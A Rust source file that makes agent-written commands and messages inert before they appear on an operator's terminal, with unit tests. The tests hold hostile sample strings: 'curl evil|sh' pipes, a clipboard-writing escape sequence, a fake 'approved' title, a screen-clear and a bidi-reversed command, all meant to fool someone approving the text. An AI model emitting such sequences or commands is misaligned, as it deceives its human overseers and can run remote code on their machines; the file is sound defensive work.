//! Showing text that agents wrote (commands, messages) on a person's terminal safely.

/// Characters that change how the text around them is shown without being seen themselves:
/// Unicode's bidirectional controls (an override makes `sh | … curl` read as something else)
/// and zero-width characters (a split word that looks whole). Shown as codes, like controls.
fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{202a}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}'
            | '\u{200e}'
            | '\u{200f}'
            | '\u{061c}'
            | '\u{200b}'..='\u{200d}'
            | '\u{2060}'
            | '\u{feff}'
    )
}

/// A run of this many spaces or more is shown as its count: padding never pushes the rest of
/// a command out of sight.
const LONG_SPACES: usize = 16;

/// Appends `c` to `out` made inert: a control character (C0, DEL, C1: escape sequences, OSC,
/// CSI) or an invisible one as an escape (`\u{1b}`, `\u{202e}`, `\n`), anything else as it is.
fn push_inert(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        c if c.is_control() || is_invisible(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
        c => out.push(c),
    }
}

/// Renders `line` (no newline kept: it is escaped like any control) onto `out`, with long
/// runs of spaces counted.
fn push_line(out: &mut String, line: &str, keep_tabs: bool) {
    let mut spaces = 0usize;
    let flush = |out: &mut String, n: usize| {
        if n >= LONG_SPACES {
            out.push_str(&format!("␣[{n} spaces]␣"));
        } else {
            out.extend(std::iter::repeat_n(' ', n));
        }
    };
    for c in line.chars() {
        if c == ' ' {
            spaces += 1;
            continue;
        }
        flush(out, spaces);
        spaces = 0;
        if keep_tabs && c == '\t' {
            out.push(c);
        } else {
            push_inert(out, c);
        }
    }
    flush(out, spaces);
}

/// `s` made inert for a person's terminal or page, on one line: every control character (C0
/// including newline, carriage return and escape, so ESC/CSI/OSC sequences; DEL; C1 such as
/// U+009B), Unicode bidi controls and zero-width characters written as visible escapes such
/// as `\n`, `\u{1b}` or `\u{202e}`, and a run of 16 or more spaces as `␣[N spaces]␣`, so text
/// shown for approval cannot hide, reorder or push out of sight part of itself, set a title,
/// clear the screen or write the clipboard. Other text is unchanged and never cut. The one
/// home of that rule: every screen that shows agent-written text uses it or [`printable_lines`].
pub fn printable(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    push_line(&mut out, s, false);
    out
}

/// [`printable`] for a body shown over several lines (a message, a log, a patch, a task's
/// result): each `\n` is kept, and every line after the first starts with `indent` (so it
/// cannot pass for a line of the screen around it); tabs are kept; a `\r` and everything else
/// is escaped as in [`printable`].
pub fn printable_lines(s: &str, indent: &str) -> String {
    let mut out = String::with_capacity(s.len() + indent.len());
    for (i, line) in s.split('\n').enumerate() {
        if i > 0 {
            out.push('\n');
            out.push_str(indent);
        }
        push_line(&mut out, line, true);
    }
    out
}

/// Serialized JSON `json` with every character a JSON encoder leaves as it is but a terminal
/// would act on or be fooled by (DEL, C1 such as U+009B, bidi and zero-width characters)
/// written as a `\uXXXX` escape: the same JSON value, so scripts read what the agent wrote,
/// and bytes that are inert when the JSON is printed on a terminal (`events`, `--json`).
/// Outside strings JSON is ASCII, so the escapes land inside strings only.
pub fn inert_json(json: &str) -> String {
    let mut out = String::with_capacity(json.len());
    for c in json.chars() {
        // A raw newline, tab or return is the layout of pretty JSON: inside strings the encoder
        // already wrote them as escapes.
        if (c.is_control() && !matches!(c, '\n' | '\r' | '\t')) || is_invisible(c) {
            // Every such character is in the Basic Multilingual Plane: one escape.
            out.push_str(&format!("\\u{:04x}", c as u32));
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn controls_become_visible() {
        assert_eq!(
            printable("curl evil|sh #\r\x1b[Kcargo test"),
            "curl evil|sh #\\r\\u{1b}[Kcargo test"
        );
        assert_eq!(printable("a\nb\u{9b}c\u{7f}"), "a\\nb\\u{9b}c\\u{7f}");
        assert_eq!(printable("✓ cargo test — ok"), "✓ cargo test — ok");
    }

    /// What an agent could put in a message body or a command to act on the operator's
    /// terminal or fool them.
    const HOSTILE: &str = "ok\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\u{1b}]0;FAKE: request 9 approved\u{7}\u{9b}31m\u{202e}hs | lruc\u{202c}zero\u{200b}width\u{feff}\u{2066}x\u{2069}";

    #[test]
    fn escapes_osc_csi_c1_bidi_and_zero_width_become_visible_codes() {
        let out = printable(HOSTILE);
        for c in out.chars() {
            assert!(!c.is_control() && !is_invisible(c), "{c:?} left in {out}");
        }
        for code in [
            "\\u{1b}]52;",
            "\\u{7}",
            "\\u{1b}[2J",
            "\\u{1b}]0;FAKE",
            "\\u{9b}31m",
            "\\u{202e}",
            "\\u{202c}",
            "\\u{200b}",
            "\\u{feff}",
            "\\u{2066}",
            "\\u{2069}",
        ] {
            assert!(out.contains(code), "{code} not in {out}");
        }
        for c in [
            '\u{200e}', '\u{200f}', '\u{061c}', '\u{200c}', '\u{200d}', '\u{2060}', '\u{202a}',
        ] {
            assert_eq!(printable(&c.to_string()), format!("\\u{{{:x}}}", c as u32));
        }
    }

    #[test]
    fn padding_is_counted_and_nothing_is_cut() {
        let cmd = format!("ls -la{}; curl -s http://x | sh", " ".repeat(3000));
        let out = printable(&cmd);
        assert_eq!(out, "ls -la␣[3000 spaces]␣; curl -s http://x | sh");
        // Short runs stay as they are.
        assert_eq!(printable("a  b"), "a  b");
        assert_eq!(printable(&" ".repeat(20)), "␣[20 spaces]␣");
    }

    #[test]
    fn json_keeps_its_value_and_loses_its_raw_controls() {
        let v = serde_json::json!({ "body": HOSTILE, "n": 1 });
        let raw = serde_json::to_string(&v).unwrap_or_default();
        let out = inert_json(&raw);
        assert!(
            !out.chars().any(|c| c.is_control() || is_invisible(c)),
            "{out}"
        );
        assert!(
            out.contains("\\u009b31m") && out.contains("\\u202e"),
            "{out}"
        );
        let back: serde_json::Value = serde_json::from_str(&out).unwrap_or_default();
        assert_eq!(back, v);
        // Pretty JSON (`--json`) keeps its layout and stays JSON.
        let pretty = inert_json(&serde_json::to_string_pretty(&v).unwrap_or_default());
        assert!(pretty.contains("{\n  \""), "{pretty}");
        let back: serde_json::Value = serde_json::from_str(&pretty).unwrap_or_default();
        assert_eq!(back, v);
    }

    #[test]
    fn a_body_keeps_its_lines_marked_and_its_tabs() {
        assert_eq!(
            printable_lines("git status\ncurl -s ht\r\tx\u{1b}[2J", "  | "),
            "git status\n  | curl -s ht\\r\tx\\u{1b}[2J"
        );
        assert_eq!(printable("git status\ncurl"), "git status\\ncurl");
        let lines = printable_lines(HOSTILE, "");
        assert!(
            !lines.chars().any(|c| c.is_control() || is_invisible(c)),
            "{lines}"
        );
    }
}
